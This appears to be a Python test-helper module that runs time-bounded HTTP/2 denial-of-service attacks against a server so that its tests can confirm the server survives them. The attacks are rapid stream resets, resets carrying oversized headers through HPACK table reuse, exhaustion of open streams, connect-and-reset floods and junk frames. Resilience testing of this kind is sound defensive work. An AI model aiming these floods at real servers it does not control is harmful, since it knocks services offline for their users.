"""Attacks that each ended a server once: what a client can send without a token, as fast as it can.

Each one is bounded in time, and returns what it did, so that a test can say that it attacked at all.
"""

import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import raw_http2 as h2

RESET = struct.pack("ii", 1, 0)
"""SO_LINGER: a close becomes a reset."""


def connect(address: str, source: str = "127.0.0.1") -> socket.socket:
    """Open a connection from one of this machine's own addresses."""
    host, port = address.split(":")
    return socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0))


def send(client: socket.socket, data: bytes) -> bool:
    """Send what the server takes; return whether the connection still stands."""
    try:
        client.sendall(data)
    except (ConnectionError, TimeoutError):
        return False
    return True


def remembered(name: str, value: str) -> bytes:
    """Return a header that the server's table remembers, so that one byte repeats it from now on."""
    return b"\x40" + h2.field(name, value)[1:]


class Call:
    """The headers of a call: long for the first one on a connection, a few bytes for all others."""

    def __init__(self, **more: str) -> None:
        fields = {
            ":path": h2.INFER,
            ":authority": "x",
            "te": "trailers",
            "content-type": "application/grpc",
            **more,
        }
        method_and_scheme = b"\x83\x86"
        self.first = method_and_scheme + b"".join([remembered(*field) for field in fields.items()])
        last = 61 + len(fields)  # the table numbers what it remembers from 62 on, the newest first
        self.index = {name: bytes([0x80 | last - at]) for at, name in enumerate(fields)}
        self.again = method_and_scheme + b"".join(self.index.values())

    @property
    def hello(self) -> bytes:
        """Return what opens a connection, and its first call."""
        settings = h2.frame(h2.SETTINGS, 0, 0)
        return h2.PREFACE + settings + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, self.first)


def rapid_resets(address: str, seconds: float, *, code: int = 0, ends: bool = False) -> int:
    """Open calls and take them back at once, over one connection after the other; return how many."""
    call, flags = Call(), h2.END_HEADERS | (h2.END_STREAM if ends else 0)
    until_s, streams = time.monotonic() + seconds, 0
    while time.monotonic() < until_s:
        with connect(address) as client:
            alive, at = send(client, call.hello), 3
            while alive and time.monotonic() < until_s:
                parts = []
                for stream in range(at, at + 4000, 2):
                    parts.append(h2.frame(h2.HEADERS, flags, stream, call.again))
                    parts.append(h2.frame(h2.RST_STREAM, 0, stream, code.to_bytes(4, "big")))
                alive, at = send(client, b"".join(parts)), at + 4000
                streams += 2000
    return streams


def reconnecting_resets(address: str, seconds: float, *, repeated: int = 0, clients: int = 8) -> int:
    """Open connections, each with calls whose heads are large, and reset all; return how many connections."""
    call = Call(authorization="Bearer " + "y" * 3700)
    large = call.again + repeated * call.index["authorization"]
    parts = [call.hello]
    for stream in range(3, 1003, 2):
        parts.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, large))
        parts.append(h2.frame(h2.RST_STREAM, 0, stream, b"\0\0\0\x08"))
    data = b"".join(parts)

    def attack(until_s: float) -> int:
        done = 0
        while time.monotonic() < until_s:
            try:
                with connect(address) as client:
                    send(client, data)
                    done += 1
            except OSError:
                continue
        return done

    return in_threads(attack, clients, seconds)


def calls_without_messages(address: str, seconds: float, *, clients: int = 3) -> int:
    """Hold as many calls open as the server lets a connection have, and send no messages."""
    call = Call()

    def attack(until_s: float) -> int:
        opened = 0
        while time.monotonic() < until_s:
            with connect(address) as client:
                alive, at = send(client, call.hello), 3
                while alive and time.monotonic() < until_s:
                    streams = range(at, at + 400, 2)
                    alive = send(
                        client,
                        b"".join([h2.frame(h2.HEADERS, h2.END_HEADERS, one, call.again) for one in streams]),
                    )
                    at, opened = at + 400, opened + 200
                    throw_away(client)
                    time.sleep(0.02)
        return opened

    return in_threads(attack, clients, seconds)


def connects(address: str, seconds: float, *, clients: int = 4, sends: bytes = b"") -> int:
    """Connect and reset, again and again; return how often."""

    def attack(until_s: float) -> int:
        done = 0
        while time.monotonic() < until_s:
            try:
                with connect(address) as client:
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
                    if sends:
                        client.sendall(sends)
                    done += 1
            except OSError:
                continue
        return done

    return in_threads(attack, clients, seconds)


def frames(address: str, seconds: float, data: bytes, before: bytes = b"") -> int:
    """Send frames that mean nothing, over one connection after the other; return how many ended."""
    ended, until_s = 0, time.monotonic() + seconds
    while time.monotonic() < until_s:
        with h2.connect(address) as client:
            alive = send(client, before)
            while alive and time.monotonic() < until_s:
                alive = send(client, data)
            ended += not alive
    return ended


def throw_away(client: socket.socket) -> None:
    """Read what has come."""
    client.setblocking(False)
    try:
        while client.recv(2**16):
            pass
    except OSError:
        pass
    client.settimeout(10)


def in_threads(attack: Callable[[float], int], clients: int, seconds: float) -> int:
    """Run an attack several times at once; return the sum of what it did."""
    until_s, done = time.monotonic() + seconds, list[int]()
    threads = [threading.Thread(target=lambda: done.append(attack(until_s))) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(done)


@contextmanager
def under(attack: Callable[[], object]) -> Iterator[None]:
    """Let an attack run beside the block."""
    thread = threading.Thread(target=attack)
    thread.start()
    try:
        yield
    finally:
        thread.join()
